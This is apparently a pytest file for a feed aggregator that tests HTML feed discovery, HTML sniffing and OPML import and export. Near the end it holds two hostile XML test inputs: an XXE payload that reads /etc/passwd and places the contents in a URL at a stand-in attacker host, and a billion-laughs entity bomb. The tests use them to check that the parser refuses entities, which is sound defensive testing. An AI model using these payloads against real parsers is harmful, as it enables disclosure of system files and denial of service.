"""Feed discovery from HTML pages, the HTML sniff, and OPML import/export."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aggregator.cli.seedsite import article_page, load_seed, rss_feed
from aggregator.exceptions import ParseError
from aggregator.parse.discover import discover_feeds, looks_like_html
from aggregator.parse.opml import OpmlFeed, parse_opml, render_opml

BASE = "https://www.example.org/politique/article-1.html"


def _page(head: str) -> str:
    return f"<!DOCTYPE html><html><head><title>t</title>{head}</head><body><p>x</p></body></html>"


# -- discover_feeds -------------------------------------------------------------


def test_discovers_rss_atom_and_json_feed_resolved_against_the_page() -> None:
    html = _page(
        '<link rel="alternate" type="application/rss+xml" title="Tout" href="/rss.xml">'
        '<link rel="alternate" type="application/atom+xml" href="atom.xml">'
        '<link rel="alternate" type="application/feed+json" href="//cdn.example.org/feed.json">'
        '<link rel="stylesheet" href="/site.css">'
    )
    assert discover_feeds(html, BASE) == [
        "https://www.example.org/rss.xml",
        "https://www.example.org/politique/atom.xml",
        "https://cdn.example.org/feed.json",
    ]


def test_comment_feeds_come_last_and_json_after_xml() -> None:
    html = _page(
        '<link rel="alternate" type="application/rss+xml" title="Commentaires" '
        'href="/comments/feed/">'
        '<link rel="alternate" type="application/feed+json" href="/feed.json">'
        '<link rel="alternate" type="application/rss+xml" title="Articles" href="/feed/">'
    )
    assert discover_feeds(html, BASE) == [
        "https://www.example.org/feed/",
        "https://www.example.org/feed.json",
        "https://www.example.org/comments/feed/",
    ]


def test_base_href_rel_feed_dedup_and_non_http_links() -> None:
    html = _page(
        '<base href="https://static.example.org/fr/">'
        '<link rel="feed" href="actualites.xml">'
        '<link rel="alternate" type="application/rss+xml" href="actualites.xml#top">'
        '<link rel="alternate" type="application/rss+xml" href="javascript:void(0)">'
        '<link rel="alternate" type="application/rss+xml" href="ftp://example.org/f.xml">'
        '<link rel="alternate" type="application/rss+xml" href="">'
        '<link rel="feed" type="text/html" href="/a-page">'
        '<link rel="Alternate" type="Application/RSS+XML; charset=utf-8" href="/upper.xml">'
    )
    assert discover_feeds(html.encode(), BASE) == [
        "https://static.example.org/fr/actualites.xml",
        "https://static.example.org/upper.xml",
    ]


def test_rest_api_json_is_not_a_feed() -> None:
    html = _page(
        '<link rel="alternate" type="application/json" href="/wp-json/wp/v2/posts/42">'
        '<link rel="alternate" type="application/json" title="JSON Feed" href="/feed.json">'
        '<link rel="alternate" type="text/html" hreflang="de" href="/de/artikel">'
    )
    assert discover_feeds(html, BASE) == ["https://www.example.org/feed.json"]


def test_seed_page_advertises_its_feed() -> None:
    page = article_page(load_seed(), "https://news.example.com/news/a")
    assert discover_feeds(page, "https://news.example.com/news/a") == [
        "https://news.example.com/rss.xml"
    ]


@pytest.mark.parametrize("html", [b"", "   ", b"\x00\x01\x02", "<p>no head at all</p>"])
def test_pages_without_feeds_give_nothing(html: bytes | str) -> None:
    assert discover_feeds(html, BASE) == []


# -- looks_like_html ------------------------------------------------------------

CHALLENGE = (
    b'<!DOCTYPE html><html lang="en-US"><head><title>Just a moment...</title>'
    b'<meta http-equiv="refresh" content="390"></head><body>Checking your browser'
    b"</body></html>"
)


@pytest.mark.parametrize(
    "body",
    [
        CHALLENGE,
        b"\n\n  <html><head><title>403 Forbidden</title></head></html>",
        b"\xef\xbb\xbf<!doctype html><title>x</title>",
        (
            b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0'
            b' Strict//EN" "x"><html xmlns="http://www.w3.org/1999/xhtml">'
        ),
        b"<!-- served by varnish --><HTML><BODY>Moved</BODY></HTML>",
        b"<script>window.location='/captcha'</script>",
        "<html><body>UTF-16 page</body></html>".encode("utf-16"),
    ],
)
def test_html_bodies_are_recognised(body: bytes) -> None:
    assert looks_like_html(body)


@pytest.mark.parametrize(
    "body",
    [
        (
            b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
            b"<description><![CDATA[<html><body>x</body></html>]]></description>"
        ),
        (
            b'<?xml version="1.0"?><?xml-stylesheet href="feed.xsl"?>'
            b'<feed xmlns="http://www.w3.org/2005/Atom">'
        ),
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">',
        b'{"version": "https://jsonfeed.org/version/1.1", "items": []}',
        b"",
        b"plain text",
    ],
)
def test_feeds_and_other_bodies_are_not_html(body: bytes) -> None:
    assert not looks_like_html(body)


def test_seed_feed_is_not_html() -> None:
    xml = rss_feed(load_seed(), feed_url="https://n.example/rss", article_url="https://n.example/a")
    assert not looks_like_html(xml.encode())


# -- OPML -------------------------------------------------------------------------

READER_EXPORT = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0">
  <head><title>Subscriptions</title></head>
  <body>
    <outline text="Economie" title="Economie">
      <outline type="rss" text="Les Echos" title="Les Echos"
               xmlUrl="https://services.lesechos.fr/rss/les-echos-economie.xml"
               htmlUrl="https://www.lesechos.fr/"/>
      <outline text="Monde">
        <outline text="Le Monde International" xmlurl="https://www.lemonde.fr/international/rss_full.xml"/>
      </outline>
    </outline>
    <outline type="rss" XMLURL="https://www.tagesschau.de/xml/rss2/"
             category="/Deutschland/Politik, Nachrichten"/>
    <outline type="atom" text="Atom by url" url="https://example.org/atom.xml"/>
    <outline type="link" text="Just a website" url="https://example.org/"/>
    <outline text="Empty folder"/>
  </body>
</opml>
"""


def test_parse_real_world_variants() -> None:
    assert parse_opml(READER_EXPORT) == [
        OpmlFeed(
            "Les Echos",
            "https://services.lesechos.fr/rss/les-echos-economie.xml",
            "https://www.lesechos.fr/",
            ("Economie",),
        ),
        OpmlFeed(
            "Le Monde International",
            "https://www.lemonde.fr/international/rss_full.xml",
            None,
            ("Economie", "Monde"),
        ),
        OpmlFeed(
            None,
            "https://www.tagesschau.de/xml/rss2/",
            None,
            ("Deutschland/Politik", "Nachrichten"),
        ),
        OpmlFeed("Atom by url", "https://example.org/atom.xml", None, ()),
    ]


def test_render_nests_by_first_tag_and_lists_all_tags() -> None:
    feeds = [
        OpmlFeed("A", "https://a.example/rss", "https://a.example/", ("fr", "tech")),
        OpmlFeed(None, "https://b.example/atom", None, ()),
    ]
    text = render_opml(feeds, title="Desk")
    assert "<title>Desk</title>" in text
    assert '<outline text="fr" title="fr">' in text
    assert 'category="fr,tech"' in text
    assert parse_opml(text.encode()) == feeds


def test_round_trip_keeps_order_when_folders_interleave() -> None:
    feeds = [
        OpmlFeed("1", "https://x.example/1", None, ("a",)),
        OpmlFeed("2", "https://x.example/2", None, ()),
        OpmlFeed("3", "https://x.example/3", None, ("a", "b")),
    ]
    assert parse_opml(render_opml(feeds).encode()) == feeds


_words = st.text(
    alphabet=st.characters(
        min_codepoint=32, max_codepoint=0x2FFF, blacklist_categories=("Cs", "Cc", "Zs")
    ),
    min_size=1,
    max_size=12,
)
_tags = st.lists(
    _words.filter(lambda w: "," not in w and "/" not in w), max_size=3, unique=True
).map(tuple)
_urls = _words.map(lambda w: "https://feeds.example/" + w)
_feeds = st.builds(
    OpmlFeed, title=st.none() | _words, url=_urls, html_url=st.none() | _urls, tags=_tags
)


@given(st.lists(_feeds, max_size=8))
def test_round_trip_property(feeds: list[OpmlFeed]) -> None:
    assert parse_opml(render_opml(feeds).encode()) == feeds


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><head><title>&secret;</title></head>
<body><outline text="&secret;" xmlUrl="https://evil.example/&secret;"/></body></opml>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<opml version="2.0"><body><outline text="&b;" xmlUrl="https://x.example/"/></body></opml>
"""


@pytest.mark.parametrize("data", [XXE, BILLION_LAUGHS])
def test_entities_are_refused_not_expanded(data: bytes) -> None:
    with pytest.raises(ParseError, match="entities") as caught:
        parse_opml(data)
    assert "root:" not in str(caught.value)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"<opml><body><outline", "not well-formed"),
        (b"", "not well-formed"),
        (b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>', "root element is <rss>"),
        (b'<opml version="2.0"><head/></opml>', "no <body>"),
    ],
)
def test_broken_opml_raises_parse_error(data: bytes, message: str) -> None:
    with pytest.raises(ParseError, match=message):
        parse_opml(data)
